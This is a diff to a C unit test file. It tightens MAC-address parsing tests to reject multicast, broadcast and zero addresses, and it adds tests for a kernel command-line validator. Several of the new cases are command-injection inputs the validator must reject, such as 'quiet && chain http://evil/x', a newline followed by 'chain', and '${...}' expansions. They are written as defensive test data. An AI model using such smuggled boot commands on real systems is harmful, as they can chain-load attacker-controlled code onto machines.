@@ -31,10 +31,18 @@ static const struct parse_case mac_cases[] = {
 	{ "52-54-00-Ab-cD-eF", 0, "52:54:00:ab:cd:ef" },
 	{ "525400abcdef", 0, "52:54:00:ab:cd:ef" },
 	{ "525400ABCDEF", 0, "52:54:00:ab:cd:ef" },
-	/* The parser is syntactic: a multicast or broadcast address is still a MAC. */
-	{ "01:00:5e:00:00:01", 0, "01:00:5e:00:00:01" },
-	{ "ff:ff:ff:ff:ff:ff", 0, "ff:ff:ff:ff:ff:ff" },
-	{ "00:00:00:00:00:00", 0, "00:00:00:00:00:00" },
+	/* Unicast addresses, locally administered (bit 1 of the first octet) or not, pass. */
+	{ "02:00:00:00:00:01", 0, "02:00:00:00:00:01" },
+	{ "fe:ff:ff:ff:ff:ff", 0, "fe:ff:ff:ff:ff:ff" },
+	{ "00:00:00:00:00:01", 0, "00:00:00:00:00:01" },
+	/* No NIC sends from a multicast, broadcast or all-zero address. */
+	{ "01:00:5e:00:00:01", -EINVAL, NULL },
+	{ "33-33-00-00-00-01", -EINVAL, NULL },
+	{ "03:00:00:00:00:00", -EINVAL, NULL },
+	{ "ff:ff:ff:ff:ff:ff", -EINVAL, NULL },
+	{ "FFFFFFFFFFFF", -EINVAL, NULL },
+	{ "00:00:00:00:00:00", -EINVAL, NULL },
+	{ "000000000000", -EINVAL, NULL },
 	{ "52:54:00-ab:cd:ef", -EINVAL, NULL },
 	{ "52-54-00:ab-cd-ef", -EINVAL, NULL },
 	{ "52.54.00.ab.cd.ef", -EINVAL, NULL },
@@ -95,6 +103,67 @@ mac_parse_table(void **state)
 			assert_string_equal(out, c->canonical);
 		else
 			assert_string_equal(out, "untouched");
+	}
+}
+
+/* Kernel argument cases: input, expected return, offset of the rejected byte. */
+struct cmdline_case {
+	const char *input;
+	int rc;
+	size_t offset;
+};
+
+static const struct cmdline_case cmdline_cases[] = {
+	{ "", 0, 0 },
+	{ "quiet", 0, 0 },
+	{ "console=ttyS0,115200n8 console=tty0", 0, 0 },
+	{ "root=UUID=4c4c4544-0042-3510-8052-b4c04f4e3632 ro", 0, 0 },
+	{ "ds=nocloud;s=http://10.0.0.1:8080/seed/ ip=dhcp", 0, 0 },
+	{ "BOOTIF=01-52-54-00-12-34-56 rd.neednet=1 modprobe.blacklist=a,b", 0, 0 },
+	{ "a+b@c%20~d_e.f", 0, 0 },
+	{ "  two  spaces  ", 0, 0 },
+	{ "a; ;b", 0, 0 },
+	{ "a ; b", -EINVAL, 2 },
+	{ ";", -EINVAL, 0 },
+	{ "quiet ;", -EINVAL, 6 },
+	{ "quiet && chain http://evil/x", -EINVAL, 6 },
+	{ "quiet || chain http://evil/x ||", -EINVAL, 6 },
+	{ "a|b", -EINVAL, 1 },
+	{ "ip=${net0/ip}", -EINVAL, 3 },
+	{ "x={y}", -EINVAL, 2 },
+	{ "x=y}", -EINVAL, 3 },
+	{ "quiet #comment", -EINVAL, 6 },
+	{ "a=\"b c\"", -EINVAL, 2 },
+	{ "a='b'", -EINVAL, 2 },
+	{ "a=`b`", -EINVAL, 2 },
+	{ "a\\b", -EINVAL, 1 },
+	{ "a\tb", -EINVAL, 1 },
+	{ "a\nchain x", -EINVAL, 1 },
+	{ "a\rb", -EINVAL, 1 },
+	{ "a\x7f", -EINVAL, 1 },
+	{ "caf\xc3\xa9", -EINVAL, 3 },
+	{ "a?b", -EINVAL, 1 },
+	{ "a<b>c", -EINVAL, 1 },
+};
+
+static void
+cmdline_check_table(void **state)
+{
+	(void)state;
+
+	for (size_t i = 0; i < ARRAY_SIZE(cmdline_cases); i++) {
+		const struct cmdline_case *c = &cmdline_cases[i];
+		size_t offset = 999;
+		int rc = cmdline_check(c->input, &offset);
+
+		if (rc != c->rc || (rc != 0 && offset != c->offset))
+			print_message("cmdline case %zu: \"%s\" returned %d at %zu\n", i, c->input,
+				      rc, offset);
+		assert_int_equal(rc, c->rc);
+		if (c->rc == 0)
+			assert_int_equal(offset, 999);
+		else
+			assert_int_equal(offset, c->offset);
 	}
 }
 
@@ -538,6 +607,7 @@ main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(mac_parse_table),
 		cmocka_unit_test(uuid_parse_table),
+		cmocka_unit_test(cmdline_check_table),
 		cmocka_unit_test(hostname_valid_table),
 		cmocka_unit_test(hostname_label_length),
 		cmocka_unit_test(hostname_total_length),
